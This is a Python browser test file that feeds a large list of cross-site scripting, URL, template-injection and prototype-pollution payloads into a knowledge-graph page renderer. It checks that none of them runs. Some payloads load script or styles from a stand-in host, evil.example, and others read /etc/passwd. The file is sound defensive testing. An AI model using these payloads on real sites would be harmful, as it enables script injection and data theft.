"""Text from documents that would act in a page that took it for markup, script or address."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from kg.citation import Citation
from kg.views.model import (
    Atlas,
    Body,
    Concept,
    Council,
    Document,
    Finding,
    Grade,
    Inspection,
    Naming,
    Person,
    Place,
    Post,
    Response,
    StatedGrade,
    Visit,
)
from kg.views.page import render

pytestmark = pytest.mark.browser

HERE = Path(__file__).parent

#: The Big List of Naughty Strings (licence beside it).
NAUGHTY: list[str] = json.loads((HERE.parent / "data" / "naughty-strings.json").read_text("utf-8"))

#: Ours, by the place that each tries to leave or to act in.
PAYLOADS: dict[str, list[str]] = {
    "elements": [
        "<script>PWNED()</script>",
        "<ScRiPt >PWNED()</sCrIpT >",
        "<script/x>PWNED()</script>",
        "<script\n>PWNED()</script\t>",
        "<<script>PWNED()//<</script>",
        "<script src=https://evil.example/x.js></script>",
        "<script src=data:,PWNED()></script>",
        "<script type=module>PWNED()</script>",
        "<svg><script>PWNED()</script></svg>",
        "<svg><script href=data:,PWNED() /></svg>",
        "<svg/onload=PWNED()>",
        "<svg><animate onbegin=PWNED() attributeName=x dur=1s>",
        "<svg><set onbegin=PWNED() attributeName=x>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>PWNED()</script></svg>#x'>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.PWNED()</script>'></iframe></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=PWNED()>",
        "<math href=javascript:PWNED()>click</math>",
        "<img src=x onerror=PWNED()>",
        "<img src=x onerror='PWNED()'//",
        "<img/src='x'/onerror=PWNED()>",
        "<image src=x onerror=PWNED()>",
        "<img srcset=x onerror=PWNED()>",
        "<audio src=x onerror=PWNED()>",
        "<video><source onerror=PWNED()></video>",
        "<video src=x onloadstart=PWNED()>",
        "<iframe srcdoc='<script>parent.PWNED()</script>'>",
        "<iframe src=javascript:parent.PWNED()>",
        "<object data=javascript:PWNED()>",
        "<embed src=javascript:PWNED()>",
        "<applet code=x>",
        "<body onload=PWNED()>",
        "<body onpageshow=PWNED()>",
        "<details open ontoggle=PWNED()>",
        "<dialog open onclose=PWNED()><form method=dialog><button autofocus>x",
        "<input autofocus onfocus=PWNED()>",
        "<select autofocus onfocus=PWNED()>",
        "<textarea autofocus onfocus=PWNED()>",
        "<marquee onstart=PWNED()>",
        "<isindex type=image src=x onerror=PWNED()>",
        "<a href='javascript:PWNED()'>href</a>",
        "<a href='https://evil.example/' ping='https://evil.example/ping' id=panel>x</a>",
        "<form action=javascript:PWNED()><button id=find>x",
        "<button popovertarget=x onbeforetoggle=PWNED()>x</button><div popover id=x>y</div>",
        "<base href='https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=prefetch href=https://evil.example/x>",
        "<link rel=dns-prefetch href=//evil.example>",
        "<noscript><p title='</noscript><img src=x onerror=PWNED()>'>",
        "<template><script>PWNED()</script></template>",
        "<template shadowrootmode=open><img src=x onerror=PWNED()></template>",
        "<plaintext>",
        "<xmp><img src=x onerror=PWNED()></xmp>",
        "<title>PWNED</title>",
        "<frameset onload=PWNED()><frame src=x>",
    ],
    "out of an element": [
        "</script><script>PWNED()</script>",
        "</script ><script >PWNED()</script >",
        "</SCRIPT><svg onload=PWNED()>",
        "</title><script>PWNED()</script>",
        "</style><script>PWNED()</script>",
        "</textarea><script>PWNED()</script>",
        "</noscript><script>PWNED()</script>",
        "</template><script>PWNED()</script>",
        "</p></li></ul></aside></main><script>PWNED()</script>",
        "</svg></math><script>PWNED()</script>",
        "<!--<script>PWNED()",
        "--><script>PWNED()</script><!--",
        "--!><img src=x onerror=PWNED()>",
        "<![CDATA[<script>PWNED()</script>]]>",
        "]]><script>PWNED()</script>",
        "<?xml version='1.0'?><script>PWNED()</script>",
        "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    ],
    "attributes": [
        '"><script>PWNED()</script>',
        "'><script>PWNED()</script>",
        '" onmouseover="PWNED()',
        "' onmouseover='PWNED()",
        '" autofocus onfocus="PWNED()" x="',
        "` onfocus=`PWNED()` autofocus",
        "x onerror=PWNED() y=",
        '" style="background:url(https://evil.example/x)',
        '" srcdoc="<script>parent.PWNED()</script>',
        "&quot; onmouseover=&quot;PWNED()",
    ],
    "addresses": [
        "javascript:PWNED()",
        "JaVaScRiPt:PWNED()",
        " javascript:PWNED()",
        "java\tscript:PWNED()",
        "java\nscript:PWNED()",
        "\x01javascript:PWNED()",
        "javascript://https://a.example/%0aPWNED()",
        "https:javascript:PWNED()",
        "data:text/html,<script>PWNED()</script>",
        "data:text/html;base64,PHNjcmlwdD5QV05FRCgpPC9zY3JpcHQ+",
        "vbscript:PWNED()",
        "file:///etc/passwd",
        "blob:https://evil.example/x",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "https://a.example/'onclick='PWNED()",
        'https://a.example/"><script>PWNED()</script>',
        "https://a.example/#\" onclick=\"PWNED()",
        "#node=javascript:PWNED()",
    ],
    "scripts and JSON": [
        "];PWNED();[",
        '"}];PWNED();//',
        "'];PWNED();//",
        "\\\");PWNED();//",
        "*/PWNED()/*",
        "//\nPWNED()",
        "\u2028PWNED()//\u2029",
        "\\u2028PWNED()",
        "\\u003cscript\\u003ePWNED()\\u003c/script\\u003e",
        "\\x3cscript\\x3ePWNED()",
        '{"__proto__": {"ran": 1}}',
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "${PWNED()}",
        "`${PWNED()}`",
        "$&$1$`",
        "%PWNED%",
    ],
    "styles": [
        "<style>@import 'https://evil.example/x.css'</style>",
        "</style><style>*{background:url(https://evil.example/x)}</style>",
        "x:expression(PWNED())",
        "url(javascript:PWNED())",
        "}*{display:none}",
        "\";} body{visibility:hidden} x{\"",
        "-moz-binding:url(https://evil.example/x)",
    ],
    "templates": [
        "{{constructor.constructor('PWNED()')()}}",
        "{{7*7}}",
        "{% include '/etc/passwd' %}",
        "{{ ''.__class__.__mro__ }}",
        "{# comment #}",
        "{%raw%}<script>PWNED()</script>{%endraw%}",
        "<%= PWNED() %>",
        "#{PWNED()}",
        "[[PWNED()]]",
        "<?php PWNED() ?>",
    ],
    "characters": [
        "&lt;script&gt;PWNED()&lt;/script&gt;",
        "&#60;script&#62;PWNED()&#60;/script&#62;",
        "&#x3c;img src=x onerror=PWNED()&#x3e;",
        "＜script＞PWNED()＜/script＞",
        "+ADw-script+AD4-PWNED()+ADw-/script+AD4-",
        "\ufeff<script>PWNED()</script>",
        "<scr\x00ipt>PWNED()</script>",
        "\u202egnp.exe\u202c",
        "\x00\x01\x1b]0;PWNED\x07",
        "\ufffe\uffff",
        "\r\n\r\n<script>PWNED()</script>",
        "A" * 3_000,
        "🦊" * 40,
        "é́́́́́́́́́́" * 20,
        " ",
        "\t",
    ],
}  # fmt: skip
OURS = [text for some in PAYLOADS.values() for text in some]
HOSTILE = list(dict.fromkeys([*OURS, *filter(None, NAUGHTY)]))
#: Elements that only a text taken for markup could have made.
MADE = "iframe, img, object, embed, base, math, video, audio, frame, foreignObject, meta[http-equiv=refresh]"
TITLE = "</title><script>PWNED()</script>"


def hostile(texts: list[str] = HOSTILE) -> Atlas:
    """Every text in every place of an atlas that takes text."""
    concepts = tuple(
        Concept(token, text, text) for token, text in zip(("a", "b", "c"), OURS, strict=False)
    )
    grades = (Concept("good", OURS[0], OURS[1]), Concept("inadequate", OURS[2], OURS[3]))
    overall = Concept("overall-effectiveness", OURS[4], OURS[5])
    documents, councils, inspections, people, bodies, responses, findings = ([] for _ in range(7))
    for i, text in enumerate(texts):
        document, council, inspection = (f"{text}{kind}/{i}" for kind in "dci")
        place = Place(document, 0, len(text), 1, text, text)
        documents.append(
            Document(
                document,
                text,
                text,
                text,
                True,
                text,
                (inspection,),
                True,
                text if i % 2 else None,
                Citation(document, text, (text,), True, text, (text, text), 1, text, text),
            )
        )
        councils.append(
            Council(
                council,
                f"E{i}",
                f"{text} {i}",
                text,
                text,
                concepts[i % 3].token,
                text,
                text if i % 5 == 0 else "",
                (),
                (),
                (text,),
                (i % 20, i // 20),
            )
        )
        grade = Grade(overall.token, ("good", "inadequate")[i % 2], (place,))
        inspections.append(
            Inspection(
                inspection,
                (council,),
                "a",
                text if i % 2 else f"20{10 + i % 15}-02-03",
                text,
                text,
                text,
                (),
                ("b",),
                (),
                (grade,),
                (document,),
                (place,),
            )
        )
        post = Post(
            council,
            text if i % 3 else "",
            "director-of-childrens-services",
            text,
            text,
            inspection,
            document,
            (place,),
        )
        people.append(
            Person(
                f"x/person/{i}",
                f"{text} {i}",
                (text,),
                (post,),
                (Visit(inspection, text, (place,)),),
            )
        )
        bodies.append(
            Body(
                f"x/{('programme', 'organisation')[i % 2]}/{i}",
                ("programme", "organisation")[i % 2],
                text,
                f"{text} {i}",
                (text,),
                (Naming(council, document, (place,)),),
            )
        )
        responses.append(Response(text, (council,), (inspection,), (place,)))
        findings.append(
            Finding(
                document,
                0,
                len(text),
                ("strength", "weakness", "mixed", "recommendation")[i % 4],
                "improving",
                True,
                90,
                ("a",),
                1,
                text,
                (council,),
                (inspection,),
                "" if i % 2 else text,
            )
        )
    return Atlas(
        tuple(documents), grades, (overall,), concepts, concepts, concepts, concepts,
        tuple(councils), tuple(inspections),
        tuple(StatedGrade(c.iri, text, "good", i.places) for c, i, text in zip(councils, inspections, texts, strict=True)),
        tuple(people), tuple(bodies), tuple(responses),
        tuple(findings), len(findings), {},
    )  # fmt: skip


@pytest.fixture(scope="module")
def opened(opener: Any) -> Any:
    return opener.open(render(hostile(), TITLE, notes=HOSTILE), "", {})


def go(opened: Any, address: str) -> None:
    opened.page.evaluate(
        """(hash) => {
            window.PWNED ??= () => { window.ran = (window.ran || 0) + 1; };
            delete document.documentElement.dataset.ready;
            if (location.hash === hash) dispatchEvent(new HashChangeEvent("hashchange"));
            else location.hash = hash;
        }""",
        f"#/{address}",
    )
    opened.page.wait_for_selector("html[data-ready]", state="attached")


def harmless(opened: Any, scripts: int) -> None:
    """Nothing ran, nothing was made or asked for, and links lead to web pages or screens."""
    page = opened.page
    assert page.evaluate("window.ran") is None
    assert page.evaluate("Object.prototype.ran") is None
    assert page.locator(MADE).count() == 0
    assert page.locator("script:not([type])").count() == scripts
    wrong = page.evaluate(
        """() => [...document.querySelectorAll("a[href]")].map((link) => link.href.baseVal ?? link.getAttribute("href"))
            .filter((href) => !/^(https?:\\/\\/|#)/i.test(href))"""
    )
    assert wrong == []
    assert (opened.errors, opened.asked) == ([], [])


def test_ours_are_more_than_a_hundred() -> None:
    assert len(set(OURS)) == len(OURS)
    assert len(OURS) >= 150
    assert len(HOSTILE) > 600


SCREENS = (
    "",
    "?by=theme-a&sort=change&group=no",
    "compare?with=E0,E1,E2,E3,E4,E5,E6,E7",
    "themes",
    "theme/a",
    "findings",
    "findings?q=script&kind=weakness",
    "people",
    "programmes",
    "network",
)


def test_hostile_text_is_shown_and_never_acts(opened: Any) -> None:
    scripts = opened.page.locator("script:not([type])").count()
    for address in SCREENS:
        go(opened, address)
        opened.page.wait_for_timeout(50)
        harmless(opened, scripts)
    assert opened.page.evaluate("document.querySelector('#foot').children.length") == len(HOSTILE)
    for i in range(0, len(OURS), 3):
        for address in (f"council/E{i}", f"person/{i}", f"{('programme', 'organisation')[i % 2]}/{i}",
                        f"document/{i}?at=0-5", f"network?from=x%2Fperson%2F{i}"):  # fmt: skip
            go(opened, address)
        harmless(opened, scripts)


def test_hostile_names_come_out_as_they_went_in(opened: Any) -> None:
    for i, text in enumerate(OURS):
        go(opened, f"person/{i}")
        heading = opened.page.evaluate("document.querySelector('h1').textContent")
        assert heading.startswith(f"{text} {i}"), (i, text, heading)


@pytest.mark.parametrize(
    "words", ["script", "javascript:", "{{", "\u202e", "<img src=x onerror=PWNED()>"]
)
def test_hostile_words_in_the_search(opened: Any, words: str) -> None:
    scripts = opened.page.locator("script:not([type])").count()
    opened.page.fill("#find", words)
    opened.page.wait_for_timeout(100)
    harmless(opened, scripts)
    opened.page.fill("#find", "")


@pytest.mark.parametrize(
    "address",
    [
        "council/<script>PWNED()</script>",
        "council/__proto__",
        "__proto__",
        "constructor",
        "theme/toString?by=__proto__",
        "findings?q=<img src=x onerror=PWNED()>&kind=__proto__&council=constructor&since=x",
        "compare?with=__proto__,<b>,E1",
        "network?from=javascript:PWNED()&path=__proto__&open=constructor",
        "document/-1?at=a-b",
        "document/1?at=99999999-999999999",
        "?by=__proto__&year=NaN&sort=constructor&grade=toString",
        "person/%E0%A4%A",
    ],
)
def test_hostile_addresses(opened: Any, address: str) -> None:
    scripts = opened.page.locator("script:not([type])").count()
    go(opened, address)
    harmless(opened, scripts)


def test_hostile_text_stays_text_in_a_picture(opener: Any, opened: Any, tmp_path: Path) -> None:
    """Opened as a page of its own, where no policy holds it, a saved picture runs nothing."""
    go(opened, "")
    with opened.page.expect_download() as download:
        opened.page.locator("button[aria-label='Save the map as SVG']").click()
    picture = tmp_path / "x.svg"
    download.value.save_as(picture)
    page = opener.browser.new_page()
    page.add_init_script("window.ran = 0; window.PWNED = () => { window.ran += 1; };")
    page.goto(picture.as_uri())
    assert page.evaluate("document.querySelectorAll('text').length") > 20
    assert page.evaluate("document.querySelectorAll('script, foreignObject, [onload]').length") == 0
    assert page.evaluate("window.ran") == 0
    page.close()
